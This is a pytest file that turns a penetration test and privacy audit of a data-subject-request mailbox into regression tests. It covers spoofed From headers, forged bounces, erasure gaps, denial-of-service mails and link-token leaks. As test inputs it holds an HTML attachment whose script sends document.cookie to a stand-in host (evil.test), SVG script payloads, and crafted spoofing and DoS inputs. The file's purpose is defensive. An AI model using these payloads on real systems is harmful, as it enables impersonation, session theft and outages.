"""Review of the privacy mailbox (issue 14), second round: a penetration test and a data-protection audit.

Each test here is a confirmed finding, written as the rule the product should keep; they fail on the code
they were written against (see the review report for severity and the recommended fix). Same real parts as
``test_mailbox.py``: a private dovecot per test, the real database, real attachment files.
"""

from __future__ import annotations

import re

import pytest
from sqlalchemy import select

from app.audit import Actor
from app.dsr.models import DsrRequest, RequestMessage
from app.extensions import db
from app.mail.models import OutgoingMail
from app.mailbox.models import InboundMail
from app.mailbox.services import read_mailbox
from app.models_base import utcnow
from tests.factories import make_request
from tests.functional.admin_support import staff_client
from tests.functional.test_mailbox import app_config, mail, multipart, nested, waiting_request  # noqa: F401


@pytest.fixture
def officer(app):
    return staff_client(app, "officer")


def dsn(original_message_id: str, recipient: str, *, sender: str = "Mail Delivery System <MAILER-DAEMON@mx.example>"):
    """An RFC 3464 delivery status notification that ``recipient`` did not get ``original_message_id``,
    with the ``Return-Path`` its delivering server writes: null for a mail system's report, the sender's
    own address for a report a person wrote."""
    from email.utils import parseaddr

    return_path = "<>" if "MAILER-DAEMON" in sender else f"<{parseaddr(sender)[1]}>"
    return (
        f"Return-Path: {return_path}\nFrom: {sender}\nTo: privacy@chatgpttech.test\n"
        f"Subject: Undelivered Mail Returned to Sender\nMessage-ID: <dsn{utcnow().timestamp()}@mx.example>\n"
        "Auto-Submitted: auto-replied\nMIME-Version: 1.0\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="B"\n\n'
        f"--B\nContent-Type: text/plain\n\nYour message to {recipient} could not be delivered.\n"
        "--B\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example\n\n"
        f"Final-Recipient: rfc822; {recipient}\nAction: failed\nStatus: 5.1.1\n"
        "Diagnostic-Code: smtp; 550 5.1.1 user unknown\n\n"
        f"--B\nContent-Type: text/rfc822-headers\n\nFrom: privacy@chatgpttech.test\nTo: {recipient}\n"
        f"Subject: Which API key?\nMessage-ID: {original_message_id}\n\n--B--\n"
    )


def delivered(app, smtp_sink, mail: OutgoingMail) -> OutgoingMail:
    """Our message, sent for real (the send job against an SMTP server), as it is before any bounce."""
    from workers.mail import send_mail

    mail_id = mail.id
    app.config.update(smtp_sink.config())
    send_mail(mail_id)
    db.session.expire_all()
    sent = db.session.get(OutgoingMail, mail_id)
    assert sent.status == "sent"
    return sent


def still_waiting(dsr_id: int) -> DsrRequest:
    db.session.expire_all()
    dsr = db.session.get(DsrRequest, dsr_id)
    assert dsr.status == "on_hold" and dsr.waiting_since is not None, "the mail was taken as the subject's answer"
    assert not [m for m in dsr.messages if m.direction == "in" and m.kind == "answer"]
    return dsr


# --- sender identity ---------------------------------------------------------------------------------

# Each From header below names the subject (sam@example.com) to Python's ``parseaddr`` on the decoded
# header, while a receiving MTA, a DMARC check or a mail client reads another mailbox (mallory's) or
# none: the address is not the sender's by any reading but ours.
AMBIGUOUS_FROM = {
    # two From headers (RFC 5322 allows one): we read the first, many clients show the last
    "two_from_headers": "sam@example.com\nFrom: mallory@evil.test",
    # two mailboxes in From without a Sender
    "two_mailboxes": "sam@example.com, mallory@evil.test",
    # an encoded word is never an address (RFC 2047 section 5); raw, this is one mailbox at evil.test
    "encoded_word_address": "=?utf-8?q?sam=40example=2Ecom=2C_?=mallory@evil.test",
    # an address-looking phrase before the real angle address
    "phrase_then_angle_address": "sam@example.com (Sam) <mallory@evil.test>",
    # a folded header whose second line is the angle address
    "folded_angle_address": "sam@example.com\n <mallory@evil.test>",
}


@pytest.mark.parametrize("from_header", list(AMBIGUOUS_FROM.values()), ids=list(AMBIGUOUS_FROM))
def test_review_an_ambiguous_from_header_is_never_the_subjects_answer(app, officer, imap_server, from_header):
    """Finding 1 (high): the sender rule reads From with ``parseaddr`` after decoding, so a mail whose From
    names the subject only to that parser (and whose real sender is mallory) carries a leaked Message-ID
    into the thread as the subject's answer."""
    client, _ = officer
    dsr, question = waiting_request(client, email="sam@example.com")
    imap_server.append(
        mail(
            body="Sam here: cancel my request",
            sender=from_header,
            headers={"In-Reply-To": question.message_id, "References": question.message_id},
        )
    )
    summary = read_mailbox()
    assert summary["new"] == 1
    still_waiting(dsr.id)
    item = db.session.execute(select(InboundMail)).scalar_one()
    assert item.status == "new" and item.related_request_id == dsr.id  # waits for an officer to check it


def test_review_a_reply_our_mail_server_marked_as_forged_is_not_the_subjects_answer(app, officer, imap_server):
    """Finding 2 (high): From is whatever the sender typed. A third party who holds a forwarded copy of our
    question (its Message-ID, and the subject's address in its To) writes ``From: sam@example.com`` and is
    threaded as the subject's answer, lifting the hold and restarting the clock, even when our own
    receiving server has recorded that the mail failed SPF, DKIM and DMARC for that domain."""
    client, _ = officer
    dsr, question = waiting_request(client, email="sam@example.com")
    imap_server.append(
        mail(
            body="Sam here: I withdraw the request",
            sender="Sam <sam@example.com>",
            headers={
                "Authentication-Results": (
                    "mx.chatgpttech.test; spf=fail smtp.mailfrom=evil.test; dkim=none; "
                    "dmarc=fail (p=reject) header.from=example.com"
                ),
                "In-Reply-To": question.message_id,
            },
        )
    )
    read_mailbox()
    still_waiting(dsr.id)


def test_review_the_mailbox_list_shows_the_senders_address_not_a_name_that_looks_like_one(app, officer, imap_server):
    """Finding 7 (low): the list shows the display name alone (the address only in a tooltip), so
    ``"sam@example.com" <mallory@evil.test>`` is listed as from sam@example.com."""
    client, _ = officer
    imap_server.append(mail(subject="Delete my account", sender='"sam@example.com" <mallory@evil.test>'))
    read_mailbox()
    page = client.get("/admin/mailbox").get_data(as_text=True)
    cells = re.findall(r'<td class="cut"[^>]*>(.*?)</td>', page, re.S)
    assert cells, page
    shown = " ".join(cells)
    assert "mallory@evil.test" in shown


# --- bounces -----------------------------------------------------------------------------------------


def test_review_erasure_and_minimisation_cut_a_bounced_mail_too(app, officer, imap_server):
    """Finding 3 (high): ``cut_mail`` only cuts mail whose status is ``sent`` or ``failed``. Once a bounce
    (real or forged by anyone holding the Message-ID) marks our mail ``bounced``, its body (the officer's
    question, the subject's name and reference) and its recipient's address survive erasure and
    minimisation."""
    from app.dsr.minimise import erase_portal_copies, minimise_request
    from app.dsr.services import staff_cancel

    client, _ = officer
    dsr, question = waiting_request(client, email="sam@nowhere.example")
    imap_server.append(dsn(question.message_id, "sam@nowhere.example"))
    read_mailbox()
    db.session.expire_all()
    assert db.session.get(OutgoingMail, question.id).status == "bounced"
    deletion = make_request("completed", "deletion", email="sam@nowhere.example")
    erase_portal_copies(deletion, {"sam@nowhere.example"})
    db.session.commit()
    db.session.expire_all()
    sent = db.session.get(OutgoingMail, question.id)
    assert sent.body_text is None and sent.body_html is None, "erasure left the bounced mail's body"
    assert sent.to_addr is None and sent.minimised_at is not None
    # and the grace-period minimisation of a request with a bounced mail
    other, other_q = waiting_request(client, email="kim@nowhere.example")
    imap_server.append(dsn(other_q.message_id, "kim@nowhere.example"))
    read_mailbox()
    staff_cancel(db.session.get(DsrRequest, other.id), Actor.system(), "duplicate")
    minimise_request(db.session.get(DsrRequest, other.id))
    db.session.commit()
    db.session.expire_all()
    sent = db.session.get(OutgoingMail, other_q.id)
    assert sent.body_text is None and sent.to_addr is None, "minimisation left the bounced mail's body"


def test_review_a_bounce_that_names_another_recipient_does_not_mark_our_mail_bounced(
    app, officer, imap_server, smtp_sink
):
    """Finding 4 (medium): any multipart/report naming one of our Message-IDs marks that mail bounced; the
    notice is never compared with what we sent. Here the subject themselves (or anyone with a forwarded
    copy) reports a failure for an address we never wrote to: our record of a delivered answer becomes
    "not delivered" (and, with finding 3, the mail escapes erasure)."""
    client, _ = officer
    dsr, question = waiting_request(client, email="sam@example.com")
    dsr_id = dsr.id
    question = delivered(app, smtp_sink, question)
    dsr = db.session.get(DsrRequest, dsr_id)
    imap_server.append(dsn(question.message_id, "someone-else@elsewhere.example", sender="Sam <sam@example.com>"))
    read_mailbox()
    db.session.expire_all()
    sent = db.session.get(OutgoingMail, question.id)
    assert sent.to_addr == "sam@example.com"
    assert sent.status == "sent", f"our mail to sam@example.com is now {sent.status!r}: {sent.last_error}"


def test_review_a_bounce_after_the_request_was_minimised_writes_nothing_back(app, officer, imap_server, smtp_sink):
    """Finding 5 (medium): a bounce that arrives after the request was minimised (or its subject erased)
    still adds a thread message with the notice's text (which names the subject's address) to the
    minimised request, and an error to its cut mail: personal data written back where nothing will
    minimise it again."""
    from app.dsr.minimise import minimise_request
    from app.dsr.services import staff_cancel

    client, _ = officer
    dsr, question = waiting_request(client, email="sam@nowhere.example")
    dsr_id = dsr.id
    question = delivered(app, smtp_sink, question)
    dsr = db.session.get(DsrRequest, dsr_id)
    staff_cancel(db.session.get(DsrRequest, dsr.id), Actor.system(), "duplicate")
    minimise_request(db.session.get(DsrRequest, dsr.id))
    db.session.commit()
    imap_server.append(dsn(question.message_id, "sam@nowhere.example"))
    read_mailbox()
    db.session.expire_all()
    bodies = [
        m.body
        for m in db.session.execute(select(RequestMessage).where(RequestMessage.request_id == dsr.id)).scalars()
        if m.body
    ]
    assert not [b for b in bodies if "sam@nowhere.example" in b], bodies
    sent = db.session.get(OutgoingMail, question.id)
    assert sent.minimised_at is not None and sent.last_error is None


# --- erasure -----------------------------------------------------------------------------------------


def test_review_erasure_reaches_an_unreadable_mail_from_the_subject(app, officer, imap_server):
    """Finding 6 (medium): a message that could not be read in is recorded without its sender (no
    ``from_hash``), so erasing that sender neither minimises its row nor deletes the server's copy,
    which stays in the mailbox for good."""
    from app.dsr.minimise import erase_portal_copies

    imap_server.append(nested(3000).replace("From: deep@example.com", "From: Gone <gone@example.com>"))
    summary = read_mailbox()
    assert summary["unreadable"] == 1 and len(imap_server.uids()) == 1
    deletion = make_request("completed", "deletion", email="gone@example.com")
    erase_portal_copies(deletion, {"gone@example.com"})
    db.session.commit()
    read_mailbox()
    db.session.expire_all()
    item = db.session.execute(select(InboundMail)).scalar_one()
    assert item.minimised_at is not None, "the erased subject's unreadable mail was not minimised"
    assert imap_server.uids() == [], "the erased subject's unreadable mail is still on the server"


# --- attachments -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name,data",
    [
        ("invoice.html", b"<html><body><script>location='https://evil.test/'+document.cookie</script></body></html>"),
        ("id.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
    ],
    ids=["html", "svg"],
)
def test_review_an_active_document_is_not_downloaded_under_its_own_name(app, officer, imap_server, name, data):
    """Finding 8 (low): an HTML or SVG file is sniffed as ``text/plain`` (it is UTF-8 text), kept, listed
    as plain text, and downloaded under the sender's ``.html`` / ``.svg`` name: the officer's browser or
    desktop opens it as a page (HTML smuggling), outside the sandbox CSP of the download."""
    client, _ = officer
    imap_server.append(multipart([(name, "text/plain", data)], subject="my documents"))
    read_mailbox()
    item = db.session.execute(select(InboundMail)).scalar_one()
    assert item.attachments and item.attachments[0]["type"] == "text/plain"
    download = client.get(f"/admin/mailbox/{item.id}/attachments/1")
    assert download.status_code == 200
    disposition = download.headers["Content-Disposition"].lower()
    assert not re.search(r"\.(html?|svg|xhtml|xml)\b", disposition), disposition


# --- denial of service: one message that stalls the mailbox ------------------------------------------


def test_review_a_long_reply_is_threaded_in_linear_time(app, officer, imap_server):
    """Finding 9 (medium): ``without_quote`` rescans the rest of the message for every line (quadratic):
    30,000 short lines (60 KB) cost about 15 s of CPU, 400 KB more than the job's 600 s timeout. The
    job is killed before the message is recorded, so every run starts on it again and no mail behind it
    is ever read (the deadlines of those requests run on unseen). Anyone with an open request of their
    own can send it, from their own address, to their own reply address."""
    import time

    client, _ = officer
    dsr, question = waiting_request(client, email="sam@example.com")
    imap_server.append(mail(body="x\n" * 30_000, sender="sam@example.com", to=question.reply_to))
    started = time.process_time()
    summary = read_mailbox()
    spent = time.process_time() - started
    assert summary["threaded"] == 1
    assert spent < 3, f"one 60 KB reply took {spent:.1f} s of CPU to thread"


def test_review_a_header_larger_than_the_header_limit_is_not_parsed_whole(app, officer, imap_server):
    """Finding 10 (medium): ``HEADER_BYTES`` bounds the header only of mail over ``MAIL_IMAP_MAX_BYTES``;
    under it the whole header is parsed, and the email package's address parsing is quadratic (a To
    of 32,000 addresses, 630 KB, takes 10 s; 2.5 MB about 160 s; 5 MB passes the 600 s job timeout),
    again before the message has a row, so it stalls the mailbox for good. A header over the limit
    should make the message wait for staff as too large, as a large message does."""
    from app.mailbox.imap import HEADER_BYTES

    to = ", ".join(f"u{i}@example.com" for i in range(HEADER_BYTES // 16))  # ~80 KB of To
    imap_server.append(mail(subject="many recipients", to=to))
    read_mailbox()
    item = db.session.execute(select(InboundMail)).scalar_one()
    assert item.too_large or any("header" in f["reason"] for f in item.refused or []), (
        "a header over HEADER_BYTES was parsed whole"
    )
    assert imap_server.uids() == [item.uid]  # it stays for a person to open in the mailbox


# --- accuracy of what is kept ------------------------------------------------------------------------


def test_review_a_long_reply_is_not_cut_without_a_word(app, officer, imap_server):
    """Finding 11 (low): a reply's text goes on the thread cut to 10,000 characters (``portal.answer``);
    the rest of what the subject wrote is lost (the mail left the server), and nothing tells staff."""
    client, _ = officer
    dsr, question = waiting_request(client, email="sam@example.com")
    long_text = "My corrections follow. " + "a" * 12_000 + " THE END OF MY REPLY"
    imap_server.append(mail(body=long_text, sender="sam@example.com", to=question.reply_to))
    read_mailbox()
    db.session.expire_all()
    messages = [m for m in db.session.get(DsrRequest, dsr.id).messages if m.direction == "in"]
    thread = " ".join(m.body or "" for m in messages)
    assert "THE END OF MY REPLY" in thread or "cut" in thread, "the reply was cut at 10,000 characters, silently"
    assert whole_text_kept(messages, "THE END OF MY REPLY")


def test_review_a_long_mail_made_into_a_request_is_not_cut_without_a_word(app, officer, imap_server):
    """Finding 11 (low), the intake side: the item keeps 100,000 characters, but made into a request only
    the first 10,000 reach the thread and the item's own copy is emptied."""
    from app.mailbox.services import attach_to_request

    _, user = officer
    imap_server.append(mail(subject="a long request", body="Please. " + "b" * 12_000 + " THE END OF MY REQUEST"))
    read_mailbox()
    intake = db.session.execute(select(InboundMail)).scalar_one()
    assert "THE END OF MY REQUEST" in intake.body_text
    new = make_request("unverified", email="wren@example.com")
    attach_to_request(intake.id, new, Actor.staff(user))
    db.session.commit()
    db.session.expire_all()
    messages = db.session.get(DsrRequest, new.id).messages
    kept = " ".join(m.body or "" for m in messages)
    assert "THE END OF MY REQUEST" in kept or "cut" in kept, "the request's text was cut at 10,000 characters"
    assert whole_text_kept(messages, "THE END OF MY REQUEST")


def whole_text_kept(messages, ending: str) -> bool:
    """The mail's whole text is on the thread as a file (staff download it) when the message was cut."""
    from app.dsr.attachments import read_attachment

    files = [read_attachment(m.attachment_key) for m in messages if m.attachment_name == "full-text.txt"]
    return any(f and f.decode().rstrip().endswith(ending) for f in files)


# --- link tokens -------------------------------------------------------------------------------------


def test_review_a_status_link_rewritten_by_a_link_scanner_loses_its_token(app, officer, imap_server, client):
    """Finding 12 (medium): ``redact_tokens`` only takes a token after a literal ``/`` or ``=``. Outlook
    (Safe Links) and other scanners rewrite the links of mail the subject receives into
    ``...?url=https%3A%2F%2Fportal%2Frequests%2FDSR-...%3Ftoken%3D<token>``, and an Outlook reply quotes our message
    under a ``From:/Sent:`` block that ``without_quote`` keeps. The subject's working link token is then
    stored on the thread (and in intake items), readable by every member of staff, auditors included."""
    from urllib.parse import quote

    staff, _ = officer
    dsr, question = waiting_request(staff, email="sam@example.com")
    link = re.search(r"https?://\S+/requests/\S+", question.body_text).group(0)
    token = re.search(r"[A-Za-z0-9_-]{32,}", link).group(0)
    assert len(token) >= 32 and client.get(link, follow_redirects=True).status_code == 200  # a working link
    wrapped = f"https://eur01.safelinks.protection.outlook.com/?url={quote(link, safe='')}&data=05%7C01"
    reply = (
        "My prefix is sk-abc1.\n\n"
        "From: ChatGPTTech privacy team <privacy@chatgpttech.test>\nSent: Tuesday\nTo: Sam\n"
        f"Subject: {question.subject}\n\nAnswer on your request page <{wrapped}>\n"
    )
    imap_server.append(mail(body=reply, sender="sam@example.com", to=question.reply_to))
    imap_server.append(mail(subject="forwarded", body=f"Forwarding my link: {wrapped}", sender="kim@example.com"))
    read_mailbox()
    db.session.expire_all()
    kept = [m.body or "" for m in db.session.execute(select(RequestMessage)).scalars()]
    kept += [i.body_text or "" for i in db.session.execute(select(InboundMail)).scalars()]
    assert any("sk-abc1" in k for k in kept)
    assert not [k for k in kept if token in k], "a working link token was stored"


def test_review_erasure_reaches_mail_from_the_same_mailbox_under_another_spelling(app, officer, imap_server):
    """Finding 13 (low): erasure finds intake mail by the keyed hash of the exact (lower-cased) address.
    Mail the erased subject sent as ``sam+privacy@gmail.com`` or ``s.am@googlemail.com`` (one Gmail
    mailbox, as ``app.portal.mailbox.normalise_mailbox`` itself knows) keeps its text and files."""
    from app.dsr.minimise import erase_portal_copies

    imap_server.append(mail(subject="please delete", body="from my tagged address", sender="sam+privacy@gmail.com"))
    imap_server.append(mail(subject="and again", body="from the dotted spelling", sender="S.am@googlemail.com"))
    read_mailbox()
    deletion = make_request("completed", "deletion", email="sam@gmail.com")
    erase_portal_copies(deletion, {"sam@gmail.com"})
    db.session.commit()
    db.session.expire_all()
    left = [(i.from_addr, i.body_text) for i in db.session.execute(select(InboundMail)).scalars() if i.body_text]
    assert not left, f"erasure of sam@gmail.com left: {left}"


def test_review_under_keep_a_copy_of_erased_mail_is_really_deleted_from_the_server(app, officer, imap_server):
    """Finding 14 (medium): with ``MAIL_IMAP_KEEP`` the folder is opened read-only unless erased copies wait
    at the start of the run. A copy of an erased subject's mail that arrives later is recorded as a
    minimised duplicate and "deleted" in that read-only session: the server ignores it, the row says
    ``on_server = False``, and no later run deletes it. Erasure is recorded as done; the mail stays."""
    from app.dsr.minimise import erase_portal_copies

    app.config["MAIL_IMAP_KEEP"] = True
    raw = mail(subject="about me", body="kept on the server", sender="gone@example.com", message_id="<k1@example.com>")
    imap_server.append(raw)
    read_mailbox()
    deletion = make_request("completed", "deletion", email="gone@example.com")
    erase_portal_copies(deletion, {"gone@example.com"})
    db.session.commit()
    assert read_mailbox()["erased_copies"] == 1 and imap_server.uids() == []
    imap_server.append(raw)  # the same mail again (a second delivery, a copy moved back)
    summary = read_mailbox()
    assert summary["duplicate"] == 1
    read_mailbox()
    db.session.expire_all()
    copy = db.session.execute(select(InboundMail).where(InboundMail.status == "duplicate")).scalar_one()
    assert imap_server.uids() == [] or copy.on_server, (
        f"the erased subject's copy (uid {copy.uid}) is still on the server, recorded as deleted"
    )
    assert imap_server.uids() == []
